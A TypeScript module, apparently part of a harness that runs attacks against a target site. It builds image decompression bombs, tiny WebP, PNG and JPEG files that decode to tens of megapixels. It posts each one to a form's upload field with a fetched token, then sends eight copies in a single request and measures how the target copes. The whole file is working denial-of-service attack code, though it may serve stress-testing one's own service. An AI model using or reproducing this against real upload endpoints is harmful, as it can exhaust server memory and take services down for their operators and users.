import sharp from 'sharp'
import { attack } from './attack'
import { weigh } from './loop'
import { openForm } from './person'
import { field, multipart, partsOf, post } from './wires'

const blank = (width: number, height: number) =>
  sharp({ create: { width, height, channels: 3, background: 'white' }, limitInputPixels: false })

const photo = (name: string, content: Buffer) => ({
  head: [
    `Content-Disposition: form-data; name="photo_upload"; filename="${name}"`,
    'Content-Type: image/webp',
  ],
  content,
})

const bombs = attack({
  name: '14 small pictures that unfold',
  async run(target) {
    const files: [string, Buffer][] = [
      ['60 megapixels.webp', await blank(7745, 7745).webp({ lossless: true }).toBuffer()],
      ['59 megapixels.png', await blank(7700, 7700).png({ palette: true }).toBuffer()],
      ['26 megapixels.jpg', await blank(5200, 5000).jpeg({ quality: 1 }).toBuffer()],
      ['16383 wide.webp', await blank(16_383, 3600).webp({ lossless: true }).toBuffer()],
    ]
    const requests: [string, Buffer][] = []
    for (const [name, content] of files) {
      const { lines, token } = await openForm(target.site, '/form')
      const body = partsOf(field('token', token), field('whole', '1'), photo(name, content))
      requests.push([`${name} of ${content.length} bytes`, post('/form', multipart, body, lines)])
    }
    const { lines, token } = await openForm(target.site, '/form')
    const [, first] = files[0] ?? ['', Buffer.alloc(0)]
    const eight = Array.from({ length: 8 }, (_, n) => photo(`${n}.webp`, first))
    const body = partsOf(field('token', token), field('whole', '1'), ...eight)
    requests.push(['eight of them in one field', post('/form', multipart, body, lines)])
    return weigh(target, requests)
  },
})

export const pictures = bombs
